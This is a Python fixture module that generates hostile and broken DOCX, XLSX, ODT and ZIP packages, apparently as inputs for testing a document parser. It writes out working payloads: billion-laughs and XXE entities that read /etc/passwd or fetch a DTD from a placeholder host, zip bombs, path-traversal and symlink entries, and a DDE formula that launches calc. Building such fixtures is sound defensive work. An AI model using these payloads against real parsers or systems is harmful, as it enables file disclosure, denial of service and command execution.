"""Hostile and broken packages: DOCX, XLSX, ODT and plain archives, by name."""

import io
import struct
import zipfile
from collections.abc import Callable, Iterator, Sequence
from typing import Final

import docx
import openpyxl

from tests.documents.papers import archive, letter, word

LETTER: Final = word(letter("An honest resume", "Skills", "Forklift operation"))
WORDS: Final = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
LAUGHS: Final = b'<!DOCTYPE d [<!ENTITY a "ha">' + b"".join(
    b'<!ENTITY %c "' % (98 + level) + b"&%c;" % (97 + level) * 10 + b'">' for level in range(12)
)
"""Ten to the power of twelve times the same."""
OUTSIDE: Final = b'<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
CALLING: Final = b'<!DOCTYPE d SYSTEM "http://198.51.100.7/evil.dtd">'


def parts(data: bytes) -> dict[str, bytes]:
    """Give the parts of a package."""
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        return {name: package.read(name) for name in package.namelist()}


def changed(data: bytes, **changes: bytes) -> bytes:
    """Give a package with these parts changed or added; `__` stands for a slash, `_DOT_` for a dot."""
    named = {name.replace("__", "/").replace("_DOT_", "."): part for name, part in changes.items()}
    return archive(parts(data) | named)


def _body(inner: bytes, head: bytes = b"") -> bytes:
    start = b'<w:document xmlns:w="%s"><w:body>' % WORDS.encode()
    body = b'<?xml version="1.0" encoding="UTF-8"?>' + head + start + inner + b"</w:body></w:document>"
    return changed(LETTER, word__document_DOT_xml=body)


def _run(text: bytes) -> bytes:
    return b"<w:p><w:r><w:t>" + text + b"</w:t></w:r></w:p>"


def documents() -> Iterator[tuple[str, bytes]]:
    """Word documents."""
    yield "docx-billion-laughs", _body(_run(b"&m;"), LAUGHS + b"]>")
    yield "docx-entity-of-a-file", _body(_run(b"&x;"), OUTSIDE)
    yield "docx-entity-of-the-network", _body(_run(b"words"), CALLING)
    yield (
        "docx-parameter-entities",
        _body(_run(b"words"), b'<!DOCTYPE d [<!ENTITY % a SYSTEM "file:///etc/passwd">%a;]>'),
    )
    yield "docx-deep-tables", _body(b"<w:tbl><w:tr><w:tc>" * 3000 + _run(b"x") + b"</w:tc></w:tr></w:tbl>" * 3000)
    yield "docx-deep-boxes", _body(b"<w:p><w:r><w:txbxContent>" * 5000 + b"</w:txbxContent></w:r></w:p>" * 5000)
    yield "docx-half-a-million-paragraphs", _body(_run(b"x") * 500_000)
    yield (
        "docx-table-of-a-million-cells",
        _body(b"<w:tbl>" + (b"<w:tr>" + b"<w:tc><w:p/></w:tc>" * 1000 + b"</w:tr>") * 1000 + b"</w:tbl>"),
    )
    yield (
        "docx-span-of-a-billion",
        _body(
            b'<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="1000000000"/></w:tcPr>'
            + _run(b"x")
            + b"</w:tc></w:tr></w:tbl>"
        ),
    )
    yield "docx-word-of-ten-megabytes", _body(_run(b"A" * 10_000_000))
    yield "docx-control-characters", _body(_run(b"&#1;&#8;&#xFFFF;"))
    yield "docx-broken-xml", _body(b"<w:p><w:r>")
    yield "docx-in-utf-7", changed(LETTER, word__document_DOT_xml=b'<?xml version="1.0" encoding="UTF-7"?><a/>')
    yield "docx-without-body", changed(LETTER, word__document_DOT_xml=b"<a/>")
    yield "docx-empty-body", changed(LETTER, word__document_DOT_xml=b"")
    yield "docx-empty-part-list", changed(LETTER, **{"[Content_Types]_DOT_xml": b"<Types/>"})
    yield "docx-styles-in-a-ring", changed(LETTER, word__styles_DOT_xml=_styles())
    yield "docx-external-relations", changed(LETTER, word___rels__document_DOT_xml_DOT_rels=_relations())
    yield (
        "docx-relation-to-itself",
        changed(
            LETTER,
            _rels___DOT_rels=_relation("word/document.xml", "officeDocument") + b"",
            word___rels__document_DOT_xml_DOT_rels=_relation("document.xml", "header"),
        ),
    )
    yield (
        "docx-relation-upwards",
        changed(LETTER, word___rels__document_DOT_xml_DOT_rels=_relation("../../../../etc/passwd", "header")),
    )
    yield (
        "docx-with-macros",
        changed(
            LETTER,
            **{
                "[Content_Types]_DOT_xml": parts(LETTER)["[Content_Types].xml"].replace(
                    b"wordprocessingml.document.main", b"ms-word.document.macroEnabled.main"
                )
            },
            word__vbaProject_DOT_bin=b"MZ" + bytes(100),
        ),
    )


def _styles() -> bytes:
    start = b'<w:styles xmlns:w="%s">' % WORDS.encode()
    ring = b'<w:style w:type="paragraph" w:default="1" w:styleId="%s"><w:basedOn w:val="%s"/></w:style>'
    return start + ring % (b"A", b"B") + ring % (b"B", b"A") + b"</w:styles>"


def _relation(target: str, kind: str, mode: str = "") -> bytes:
    schema = "http://schemas.openxmlformats.org"
    return (
        f'<Relationships xmlns="{schema}/package/2006/relationships"><Relationship Id="rId1" {mode}'
        f' Type="{schema}/officeDocument/2006/relationships/{kind}" Target="{target}"/></Relationships>'
    ).encode()


def _relations() -> bytes:
    schema = "http://schemas.openxmlformats.org"
    kinds = ("attachedTemplate", "image", "oleObject", "frame", "styles", "header", "hyperlink")
    inner = "".join(
        f'<Relationship Id="e{kind}" TargetMode="External" Target="http://198.51.100.7/{kind}"'
        f' Type="{schema}/officeDocument/2006/relationships/{kind}"/>'
        for kind in kinds
    )
    return f'<Relationships xmlns="{schema}/package/2006/relationships">{inner}</Relationships>'.encode()


def archives() -> Iterator[tuple[str, bytes]]:
    """What every kind of package may suffer."""
    yield "zip-bomb-in-docx", changed(LETTER, word__media__a_DOT_png=bytes(45_000_000))
    yield "zip-bomb-as-body", changed(LETTER, word__document_DOT_xml=b"<w:p/>" * 8_000_000)
    yield "zip-of-thousands", changed(LETTER, **{f"word__{number}": b"" for number in range(5000)})
    yield "zip-two-of-a-name", _doubled()
    yield "zip-path-upwards", changed(LETTER, **{"_DOT__DOT____DOT__DOT____etc__passwd": b"x"})
    yield "zip-path-absolute", changed(LETTER, **{"__etc__passwd": b"x"})
    yield "zip-path-of-windows", changed(LETTER, **{"C:\\Windows\\x_DOT_dll": b"x"})
    yield "zip-path-of-a-megabyte", changed(LETTER, **{"a" * 60_000: b"x"})
    yield "zip-path-of-nul", changed(LETTER, **{"word__a\x00b": b"x"})
    yield "zip-size-lies", _patched(LETTER, b"PK\x01\x02", 24, struct.pack("<I", 5))
    yield "zip-size-of-four-gigabytes", _patched(LETTER, b"PK\x01\x02", 24, b"\xfe\xff\xff\xff")
    yield "zip-checksum-lies", _patched(LETTER, b"PK\x01\x02", 16, b"\x00\x00\x00\x00")
    yield "zip-method-unknown", _patched(LETTER, b"PK\x01\x02", 10, b"\x63\x00")
    yield "zip-locked", _patched(LETTER, b"PK\x01\x02", 8, b"\x01\x00")
    yield "zip-offset-far-away", _patched(LETTER, b"PK\x01\x02", 42, b"\xff\xff\xff\x7f")
    yield "zip-without-directory", LETTER[: LETTER.rfind(b"PK\x01\x02")]
    yield "zip-cut", LETTER[: len(LETTER) // 2]
    yield "zip-only-its-end", b"PK\x05\x06" + bytes(18)
    yield "zip-in-zip-in-zip", archive({"a.zip": archive({"b.zip": archive({"c.docx": LETTER})})})
    yield "zip-with-junk-before", b"MZ" + bytes(300) + LETTER
    yield "zip-of-links", _links()


def _doubled() -> bytes:
    """Give a package with a second body under the name of the first."""
    import warnings

    buffer = io.BytesIO(LETTER)
    with zipfile.ZipFile(buffer, "a") as package, warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)
        package.writestr("word/document.xml", parts(LETTER)["word/document.xml"])
    return buffer.getvalue()


def _patched(data: bytes, mark: bytes, at: int, value: bytes) -> bytes:
    """Give a package with `value` in each header that begins with `mark`."""
    found, place = bytearray(data), data.find(mark)
    while place >= 0:
        found[place + at : place + at + len(value)] = value
        place = data.find(mark, place + 4)
    return bytes(found)


def _links() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as package:
        link = zipfile.ZipInfo("resume.txt")
        link.external_attr = 0o120777 << 16
        package.writestr(link, "/etc/passwd")
    return buffer.getvalue()


def workbooks() -> Iterator[tuple[str, bytes]]:
    """XLSX job histories."""
    rows: list[list[object]] = [
        ["Employee ID", "Job Title", "Employer", "Start Date"],
        ["1", "Welder", "Hull & Sons", "2019-01"],
    ]
    honest = _book(rows)
    sheet = parts(honest)["xl/worksheets/sheet1.xml"]
    yield "xlsx-formulas", _book([*rows, ["=1+1", '=HYPERLINK("http://198.51.100.7")', "=cmd|'/c calc'!A1", "+1"]])
    yield (
        "xlsx-cell-far-away",
        changed(honest, xl__worksheets__sheet1_DOT_xml=sheet.replace(b'r="A2"', b'r="XFD1048576"')),
    )
    yield (
        "xlsx-billion-laughs",
        changed(honest, xl__worksheets__sheet1_DOT_xml=LAUGHS + b"]><worksheet>&m;</worksheet>"),
    )
    yield (
        "xlsx-entity-of-a-file",
        changed(honest, xl__worksheets__sheet1_DOT_xml=OUTSIDE + b"<worksheet>&x;</worksheet>"),
    )
    yield "xlsx-shared-string-missing", changed(honest, xl__sharedStrings_DOT_xml=b"<sst/>")
    yield "xlsx-sheet-broken", changed(honest, xl__worksheets__sheet1_DOT_xml=sheet[:-40])
    yield "xlsx-no-sheets", changed(honest, xl__workbook_DOT_xml=b"<workbook/>")
    yield "xlsx-date-of-a-billion", _book([*rows, ["2", "Cook", "Inn", 10**15]])
    yield "xlsx-cells-of-a-megabyte", _book([*rows, ["3", "x" * 32_000, "y" * 32_000, "2020"]] * 30)
    yield "xlsx-sixty-thousand-rows", changed(honest, xl__worksheets__sheet1_DOT_xml=_many(sheet, 60_000))


def _many(sheet: bytes, count: int) -> bytes:
    head, _, tail = sheet.partition(b"</sheetData>")
    row = b'<row r="%d"><c r="A%d" t="inlineStr"><is><t>x</t></is></c></row>'
    return head + b"".join(row % (number, number) for number in range(3, count)) + b"</sheetData>" + tail


def _book(rows: Sequence[Sequence[object]]) -> bytes:
    book = openpyxl.Workbook()
    assert book.active is not None
    for row in rows:
        book.active.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def texts_of_offices() -> Iterator[tuple[str, bytes]]:
    """OpenDocument texts."""
    kind = b"application/vnd.oasis.opendocument.text"
    space = (
        b'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
        b' xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
    )

    def odt(inner: bytes, head: bytes = b"") -> bytes:
        content = head + b"<office:document-content " + space + b"><office:body><office:text>" + inner
        end = b"</office:text></office:body></office:document-content>"
        return archive({"mimetype": kind, "content.xml": content + end})

    yield "odt-billion-laughs", odt(b"<text:p>&m;</text:p>", LAUGHS + b"]>")
    yield "odt-entity-of-a-file", odt(b"<text:p>&x;</text:p>", OUTSIDE)
    yield "odt-deep-lists", odt(b"<text:list><text:list-item>" * 5000 + b"</text:list-item></text:list>" * 5000)
    yield "odt-spaces-of-a-billion", odt(b'<text:p>a<text:s text:c="1000000000"/>b</text:p>')
    yield (
        "odt-columns-of-a-billion",
        odt(
            b'<table:table xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"><table:table-row'
            b' table:number-rows-repeated="1000000000"><table:table-cell table:number-columns-repeated="1000000000">'
            b"<text:p>x</text:p></table:table-cell></table:table-row></table:table>"
        ),
    )
    yield "odt-without-content", archive({"mimetype": kind})
    yield (
        "odt-locked",
        archive(
            {
                "mimetype": kind,
                "content.xml": bytes(99),
                "META-INF/manifest.xml": b'<m:manifest xmlns:m="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
                b'<m:file-entry m:full-path="content.xml"><m:encryption-data/></m:file-entry></m:manifest>',
            }
        ),
    )


def ordinary() -> Iterator[tuple[str, bytes]]:
    """One that is as it should be, so that the corpus shows that something is read."""
    yield "docx-honest", LETTER
    yield "docx-of-the-library", word(docx.Document())


PARTS: Final[tuple[Callable[[], Iterator[tuple[str, bytes]]], ...]] = (
    documents,
    archives,
    workbooks,
    texts_of_offices,
    ordinary,
)
